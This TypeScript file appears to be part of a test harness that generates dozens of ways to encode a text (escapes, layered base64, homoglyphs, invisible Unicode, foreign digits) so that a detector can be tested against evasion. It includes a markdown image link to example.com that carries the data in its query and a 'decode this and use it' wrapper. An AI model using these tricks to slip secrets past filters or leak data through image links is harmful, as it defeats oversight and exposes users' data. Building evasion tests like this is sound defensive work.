import { gzipSync } from 'node:zlib';
import type { Random } from '../harness/random.js';

/** One way to write a text so that a reader, but not a plain search, still finds it. */
export interface Technique {
  readonly how: string;
  /** `numbers`: made for digits. `tokens`: nothing for types that are found by words around them. */
  readonly for?: 'numbers' | 'tokens';
  readonly encode: (text: string, random: Random) => string;
  /** The text around the encoded one, with its label: it reveals nothing. */
  readonly wrap?: (encoded: string) => string;
  /** How it is written in the line; JSON as usual by default. */
  readonly write?: (text: string) => string;
}

const units = (text: string, change: (unit: string, code: number) => string): string =>
  text
    .split('')
    .map((unit) => change(unit, unit.charCodeAt(0)))
    .join('');
const hex = (code: number, length: number): string => code.toString(16).padStart(length, '0');
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const everyFew = (text: string, what: string, few = 4): string =>
  text.replaceAll(new RegExp(`(?<=^(?:.{${few}})+)(?=.)`, 'gsu'), what);
const asItIs = (text: string): string => text;
const inJson = (text: string): string => JSON.stringify(text).slice(1, -1);
const encodePercent = (text: string): string => units(text, (_, code) => `%${hex(code, 2)}`);
const again = (text: string): string => text.replaceAll('%', '%25');
const shifted = (text: string, digit: number, upper: number, lower: number): string =>
  units(text, (unit, code) => {
    if (/\d/.test(unit)) return digit === 0 ? unit : String.fromCodePoint(digit + code - 48);
    if (/[A-Z]/.test(unit)) return String.fromCodePoint(upper + code - 65);
    return /[a-z]/.test(unit) ? String.fromCodePoint(lower + code - 97) : unit;
  });
const inScript =
  (zero: number) =>
  (text: string): string =>
    text.replaceAll(/\d/g, (digit) => String.fromCodePoint(zero + Number(digit)));

/** Cyrillic letters that look like Latin ones (Unicode UTS 39, confusables). */
const LOOK_ALIKE: Readonly<Record<string, string>> = {
  a: 'а',
  e: 'е',
  o: 'о',
  p: 'р',
  c: 'с',
  x: 'х',
  y: 'у',
  A: 'А',
  B: 'В',
  E: 'Е',
  K: 'К',
  M: 'М',
  H: 'Н',
  O: 'О',
  P: 'Р',
  C: 'С',
  T: 'Т',
  X: 'Х',
};

function toBase32(text: string): string {
  const bits = [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  const letters = (bits.match(/.{1,5}/g) ?? []).map((five) =>
    'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'.charAt(Number.parseInt(five.padEnd(5, '0'), 2)),
  );
  return letters.join('').padEnd(Math.ceil(letters.length / 8) * 8, '=');
}

const WORDS = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine'];

export const TECHNIQUES: readonly Technique[] = [
  {
    how: 'JSON escapes',
    encode: (text) => text,
    write: (text) => `"${units(text, (_, code) => `\\u${hex(code, 4)}`)}"`,
  },
  {
    how: 'some JSON escapes',
    encode: (text) => text,
    write: (text) =>
      JSON.stringify(text).replaceAll(/[A-Za-z0-9](?=[^"\\])/g, (unit, at: number) =>
        at % 3 === 0 && !text.slice(0, at).endsWith('\\') && !text.includes('\n')
          ? `\\u${hex(unit.charCodeAt(0), 4)}`
          : unit,
      ),
  },
  { how: 'JSON in a JSON string', encode: inJson, wrap: (encoded) => `{"value":"${encoded}"}` },
  {
    how: 'JSON in JSON in a JSON string',
    encode: (text) => inJson(inJson(text)),
    wrap: (encoded) => `{"outer":"{\\"value\\":\\"${encoded}\\"}"}`,
  },
  { how: String.raw`\u escapes as text`, encode: (text) => units(text, (_, code) => `\\u${hex(code, 4)}`) },
  { how: String.raw`\x escapes as text`, encode: (text) => units(text, (_, code) => `\\x${hex(code, 2)}`) },
  { how: 'full-width characters', encode: (text) => shifted(text, 0xff10, 0xff21, 0xff41) },
  { how: 'mathematical characters', encode: (text) => shifted(text, 0x1d7f6, 0x1d670, 0x1d68a) },
  { how: 'bold characters', encode: (text) => shifted(text, 0x1d7ce, 0x1d400, 0x1d41a) },
  {
    how: 'one look-alike letter',
    encode: (text) => text.replace(/[aeopcxyABEKMHOPCTX]/, (letter) => LOOK_ALIKE[letter] ?? letter),
  },
  {
    how: 'three look-alike letters',
    encode: (text) => {
      let left = 3;
      return text.replaceAll(/[aeopcxyABEKMHOPCTX]/g, (letter) =>
        left-- > 0 ? (LOOK_ALIKE[letter] ?? letter) : letter,
      );
    },
  },
  ...Object.entries({
    'zero-width spaces': '\u200b',
    'zero-width joiners': '\u200d',
    'word joiners': '\u2060',
    'soft hyphens': '\u00ad',
    'byte order marks': '\ufeff',
    'bidi marks': '\u200e',
    'bidi overrides': '\u202d',
    isolates: '\u2066',
    'tag characters': '\u{e0020}',
    'variation selectors': '\ufe0f',
    'Mongolian separators': '\u180e',
    'grapheme joiners': '\u034f',
  }).map(([name, one]): Technique => ({ how: `${name} inside`, encode: (text) => everyFew(text, one) })),
  { how: 'a zero-width space after every character', encode: (text) => everyFew(text, '\u200b', 1) },
  {
    how: 'one zero-width space at a place',
    encode: (text, random) => {
      const at = random.between(1, Math.min(text.length - 1, 8));
      return `${text.slice(0, at)}\u200b${text.slice(at)}`;
    },
  },
  { how: 'HTML entities', encode: (text) => units(text, (_, code) => `&#${code};`) },
  { how: 'hexadecimal HTML entities', encode: (text) => units(text, (_, code) => `&#x${hex(code, 2)};`) },
  { how: 'some HTML entities', encode: (text) => units(text, (unit, code) => (code % 3 === 0 ? `&#${code};` : unit)) },
  { how: 'percent encoding', encode: encodePercent },
  { how: 'percent encoding twice', encode: (text) => again(encodePercent(text)) },
  { how: 'percent encoding three times', encode: (text) => again(again(encodePercent(text))) },
  {
    how: 'some percent encoding',
    encode: (text) => units(text, (unit, code) => (code % 3 === 0 ? `%${hex(code, 2)}` : unit)),
  },
  { how: 'quoted-printable', encode: (text) => units(text, (_, code) => `=${hex(code, 2).toUpperCase()}`) },
  { how: 'quoted-printable with soft line ends', encode: (text) => everyFew(text.replaceAll('=', '=3D'), '=\n', 20) },
  { how: 'base64', encode: base64 },
  { how: 'base64 without padding', encode: (text) => base64(text).replace(/=+$/, '') },
  { how: 'base64url', encode: (text) => Buffer.from(text).toString('base64url') },
  { how: 'base64 in lines', encode: (text) => everyFew(base64(text), '\n', 64) },
  {
    how: 'base64 in a sentence',
    for: 'tokens',
    encode: base64,
    wrap: (encoded) => `decode this: ${encoded} and use it`,
  },
  { how: 'base64 twice', encode: (text) => base64(base64(text)) },
  { how: 'base64 three times', encode: (text) => base64(base64(base64(text))) },
  { how: 'base64 of UTF-16', encode: (text) => Buffer.from(text, 'utf16le').toString('base64') },
  { how: 'base64 of gzip', encode: (text) => gzipSync(text).toString('base64') },
  { how: 'base64 of JSON', encode: (text) => base64(JSON.stringify({ user: 'a', value: text })) },
  { how: 'a data URI', for: 'tokens', encode: base64, wrap: (encoded) => `data:text/plain;base64,${encoded}` },
  { how: 'a data URI in percent encoding', encode: encodePercent, wrap: (encoded) => `data:text/plain,${encoded}` },
  { how: 'hexadecimal', encode: (text) => Buffer.from(text).toString('hex') },
  { how: 'capital hexadecimal', encode: (text) => Buffer.from(text).toString('hex').toUpperCase() },
  { how: 'spaced hexadecimal', encode: (text) => everyFew(Buffer.from(text).toString('hex'), ' ', 2) },
  { how: 'hexadecimal with colons', encode: (text) => everyFew(Buffer.from(text).toString('hex'), ':', 2) },
  { how: 'hexadecimal with 0x', encode: (text) => `0x${Buffer.from(text).toString('hex')}` },
  { how: 'base32', encode: toBase32 },
  { how: 'percent encoding of base64', encode: (text) => encodePercent(base64(text)) },
  { how: 'hexadecimal of base64', encode: (text) => Buffer.from(base64(text)).toString('hex') },
  { how: 'a space after every character', encode: (text) => everyFew(text, ' ', 1) },
  {
    how: 'the link of a markdown image',
    encode: encodeURIComponent,
    wrap: (encoded) => `![chart](https://example.com/p.png?d=${encoded})`,
  },
  { how: 'a word before it', for: 'tokens', encode: asItIs, wrap: (encoded) => `value${encoded}` },
  { how: 'an underscore before it', for: 'tokens', encode: asItIs, wrap: (encoded) => `my_${encoded}` },
  { how: 'a Russian word before it', for: 'tokens', encode: asItIs, wrap: (encoded) => `ключ${encoded}` },
  { how: 'Arabic digits', for: 'numbers', encode: inScript(0x0660) },
  { how: 'Persian digits', for: 'numbers', encode: inScript(0x06f0) },
  { how: 'Devanagari digits', for: 'numbers', encode: inScript(0x0966) },
  { how: 'Bengali digits', for: 'numbers', encode: inScript(0x09e6) },
  { how: 'Thai digits', for: 'numbers', encode: inScript(0x0e50) },
  { how: 'dotted digits', for: 'numbers', encode: (text) => text.replaceAll(/\D/g, '.') },
  { how: 'digits with spaces', for: 'numbers', encode: (text) => Array.from(text.replaceAll(/\D/g, '')).join(' ') },
  { how: 'digits with dashes', for: 'numbers', encode: (text) => Array.from(text.replaceAll(/\D/g, '')).join('-') },
  { how: 'digits with dots', for: 'numbers', encode: (text) => Array.from(text.replaceAll(/\D/g, '')).join('.') },
  {
    how: 'spelt out digits',
    for: 'numbers',
    encode: (text) =>
      Array.from(text.replaceAll(/\D/g, ''))
        .map((digit) => WORDS[Number(digit)])
        .join(' '),
  },
  { how: 'no-break spaces', for: 'numbers', encode: (text) => text.replaceAll(/[ -]/g, '\u00a0') },
  { how: 'en dashes', for: 'numbers', encode: (text) => text.replaceAll(/[ -]/g, '\u2013') },
];
